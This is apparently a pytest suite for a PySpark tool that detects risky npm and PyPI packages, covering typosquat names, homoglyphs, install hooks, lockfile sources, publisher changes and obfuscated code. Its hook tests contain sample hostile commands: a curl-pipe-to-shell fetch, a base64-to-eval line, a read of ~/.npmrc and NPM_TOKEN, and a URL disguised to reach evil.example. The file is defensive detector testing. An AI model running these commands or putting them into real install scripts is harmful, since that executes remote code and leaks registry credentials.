import string
from datetime import datetime

import pytest
from pyspark.sql import functions as F

from riskloom import fixed
from riskloom.corpus import DEFAULT, Corpus
from riskloom.functions import names
from riskloom.operators import rules, scoring
from riskloom.schema import complete

AS_OF = datetime(2026, 1, 10)


def findings(spark, online=True, **columns):
    schema = ", ".join(f"{c} {t}" for c, t in __import__("riskloom.schema", fromlist=["PACKAGE"]).PACKAGE.items() if c in columns)
    df = complete(spark.createDataFrame([tuple(columns[c.split(" ")[0]] for c in schema.split(", "))], schema) if columns else None)
    found = rules.row_findings(df, AS_OF, online).unionByName(rules.near_miss_findings(df))
    return {r["rule_id"]: r["evidence"] for r in found.collect()}


def pkg(spark, name, ecosystem="npm", **more):
    return findings(spark, ecosystem=ecosystem, name=name, **more)


def near(spark, ecosystem, asked, corpus=DEFAULT):
    rows = names.nearest_popular(spark.createDataFrame([(ecosystem, a) for a in asked], "ecosystem string, compared string"), corpus).collect()
    return {r["compared"]: (r["distance"], r["target"]) for r in rows}


def test_near_names(spark):
    assert near(spark, "pypi", ["requsts", "quite-another-name", "requests"])["requsts"] == (1, "requests")
    assert near(spark, "npm", ["webpcak", "ln", "lodahs"]) == {"webpcak": (1, "webpack"), "lodahs": (1, "lodash"), "ln": (2, "ms")}
    df = spark.createDataFrame([("ca", "abc", 3), ("", "ab", 2), ("ab", "", 2), ("é中a", "é中b", 1), ("abcd", "badc", 2)], "a string, b string, d int")
    assert all(r["d"] == r["got"] for r in df.select("d", names.swap_distance(F.col("a"), F.col("b")).alias("got")).collect())


def _plain_distance(a, b):
    d = {(i, 0): i for i in range(len(a) + 1)} | {(0, j): j for j in range(len(b) + 1)}
    for i in range(1, len(a) + 1):
        for j in range(1, len(b) + 1):
            d[i, j] = min(d[i - 1, j] + 1, d[i, j - 1] + 1, d[i - 1, j - 1] + (a[i - 1] != b[j - 1]))
            if i > 1 and j > 1 and a[i - 1] == b[j - 2] and a[i - 2] == b[j - 1]:
                d[i, j] = min(d[i, j], d[i - 2, j - 2] + (a[i - 1] != b[j - 1]))
    return d[len(a), len(b)]


def test_every_edit_is_found(spark):
    targets = DEFAULT.pypi[::9]
    corpus, asked = Corpus((), targets), set()
    for name in targets:
        edits = {name[:i] + name[i + 1 :] for i in range(len(name))} | {name[:i] + c + name[i:] for i in range(len(name) + 1) for c in "aq-"}
        edits |= {name[:i] + name[i + 1] + name[i] + name[i + 2 :] for i in range(len(name) - 1)} | {name[:i] + "z" + name[i + 1 :] for i in range(len(name))}
        asked |= set(sorted(edits - {name})[::3])
        asked |= {e[:i] + "é" + e[i + 1 :] for e in sorted(edits)[::11] for i in (0, len(e) - 1)} | {e[1:2] + e[:1] + e[2:] for e in sorted(edits)[::7]}
    want = {}
    for e in asked:
        found = min(((d, t) for t in targets if 0 < (d := _plain_distance(e, t)) <= 2), default=None)
        if found:
            want[e] = found
    assert len(want) > 300 and near(spark, "pypi", asked, corpus) == want


def test_naming_rules(spark):
    assert pkg(spark, "requsts", "pypi")["HEM101"] == ['1 edit away from "requests"']
    assert "HEM101" not in pkg(spark, "requests", "pypi")
    assert pkg(spark, "colors-js")["HEM102"] == ['"colors" with "js" attached']
    assert pkg(spark, "requests-python", "pypi")["HEM102"] == ['"requests" with "python" attached']
    assert pkg(spark, "urllib3-sdk", "pypi")["HEM102"] == ['"urllib3" with "sdk" attached']
    assert pkg(spark, "types-node")["HEM104"] == ['resembles the scoped package "@types/node"']
    got = pkg(spark, "сhalk")["HEM103"]
    assert len(got) == 1 and 'reads as "c"' in got[0] and "CYRILLIC SMALL LETTER ES" in got[0]
    assert pkg(spark, "naïve")["HEM103"] == ["non-ASCII character U+00EF"]


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        ("curl http://x.example/a.sh | sh", "HEM202"),
        ("node -e \"require('http').get('x')\"", "HEM202"),
        ("echo aGk= | base64 -d | xargs eval", "HEM203"),
        ("cat ~/.npmrc && echo $NPM_TOKEN", "HEM204"),
    ],
)
def test_hooks(spark, body, rule):
    got = pkg(spark, "x-tool", scripts={"postinstall": body, "test": "jest"})
    assert rule in got and "HEM201" in got and got["HEM201"] == [f"postinstall: {body}"]


def test_credentials_are_listed(spark):
    assert pkg(spark, "x-tool", scripts={"install": "cat ~/.npmrc; echo $NPM_TOKEN"})["HEM204"] == ["install references .npmrc, NPM_TOKEN, ~/.npmrc"]


def test_lockfile_rules(spark):
    got = pkg(spark, "a-tool", version="1.0.0", resolved="http://registry.npmjs.org/a.tgz", origin="x/package-lock.json")
    assert got["HEM402"] == ["a-tool@1.0.0 pinned without a hash"] and got["HEM403"] and "HEM404" not in got
    assert pkg(spark, "a-tool", spec="^1.0")["HEM401"] == ['"a-tool" requested as "^1.0"']
    assert pkg(spark, "a-tool", resolved="https://registry.npmjs.org@evil.example/a.tgz")["HEM404"]
    assert pkg(spark, "a-tool", spec="git+https://github.com/x/y")["HEM404"]
    got = pkg(spark, "requirements.txt", "pypi", kind="manifest", extra_indexes=["https://pypi.org/simple", "https://x.example"])
    assert got == {"HEM405": ["resolves against https://x.example as well as PyPI"]}


def test_online_rules(spark):
    got = pkg(
        spark, "b-tool", version="2.0.0", published_at=datetime(2026, 1, 9, 12), publisher="newteam", prior_publishers=["alice"], unpacked_size=2_000_000,
        prior_unpacked_size=100_000, downloads=12, deprecated="use c", yanked=True, repo_missing=True, advisories=["GHSA-1", "GHSA-2", "GHSA-3", "GHSA-4", "GHSA-5"],
        malware=[("MAL-1", "steals", ["GHSA-9"])], declared_repo="a/b", provenance=("slsa", None, "c/d", "ci.yml", None, "0123456789"),
    )
    assert got["HEM501"] == ["2.0.0 published 12 hours ago"]
    assert got["HEM502"] == ['published by "newteam", who had not published this package before; earlier releases by alice']
    assert got["HEM503"] == ["deprecated: use c", "yanked: no reason given"]
    assert got["HEM504"] == ["12 downloads in the last week"] and got["HEM505"]
    assert got["HEM506"] == ["98 KB -> 1.9 MB since the previous release"]
    assert got["HEM602"] == ["declared a/b, but built from c/d@0123456 via ci.yml"] and "HEM601" not in got
    assert got["HEM701"] == ["MAL-1 (GHSA-9): steals"]
    assert got["HEM702"] == ["5 advisories: GHSA-1, GHSA-2, GHSA-3, GHSA-4 and 1 more"]
    assert pkg(spark, "gone-tool", unpublished=True)["HEM507"] == ["npm has no package under this name"]
    assert "HEM507" not in pkg(spark, "gone-tool", unpublished=True, workspace=True)
    assert findings(spark, online=False, ecosystem="npm", name="gone-tool", unpublished=True) == {}


def test_source_rules(spark):
    files = [
        ("p", "a.js", "eval(x); new Function('y')"),
        ("p", "dist/b.js", "\\x41" * 500),
        ("p", "c.js", "\\x41" * 500),
        ("p", "d.js", "y" * 6000),
        ("p", "e.js", "'" + (string.ascii_letters + string.digits) * 10 + "'"),
        ("p", "f.js", "eval('')\n" * 3),
        ("p", "tests/g.js", "\\x41" * 500),
    ]
    found = rules.source_findings(spark.createDataFrame(files, "pkg_id string, rel string, text string"))
    got = {r["rule_id"]: r["evidence"] for r in found.collect()}
    assert got["HEM302"][0] == "a.js: 2 dynamic-execution sites"
    assert got["HEM301"] == ["c.js: 500 hex escapes", "d.js: single line of 6000 characters", "e.js: 622-char blob, entropy 6.0"]


def score(spark, *ids):
    rows = [("p", i, ["x"]) for i in ids]
    found = spark.createDataFrame(rows, "pkg_id string, rule_id string, evidence array<string>")
    return scoring.scores(scoring.with_rules(found, rules.rules_table(spark))).first()


def test_scores(spark):
    assert score(spark, "HEM202")["score"] == 45
    assert score(spark, "HEM202", "HEM201")["score"] == 52
    assert score(spark, "HEM202", "HEM101")["score"] == 94
    assert score(spark, "HEM202", "HEM101", "HEM301")["score"] == 100
    sure = score(spark, "HEM701", "HEM101")
    assert (sure["score"], sure["certain"], sure["severity"], sure["parts"]) == (100, True, "critical", {})


def test_own_rules(spark):
    from pyspark.sql import functions as F

    @rules.rule("OWN001", "naming", 10, "Short name")
    def short():
        return F.when(F.length("name") < 3, F.array(F.lit("short"))).otherwise(F.array().cast("array<string>"))

    try:
        assert pkg(spark, "ab")["OWN001"] == ["short"]
        with pytest.raises(ValueError):
            rules.rule("OWN001", "naming", 1, "again")(short)
        with pytest.raises(ValueError):
            rules.rule("OWN002", "nothing", 1, "again")(short)
    finally:
        rules.forget_rule("OWN001")
    assert len(fixed.RULES) == 29 and isinstance(DEFAULT, Corpus)
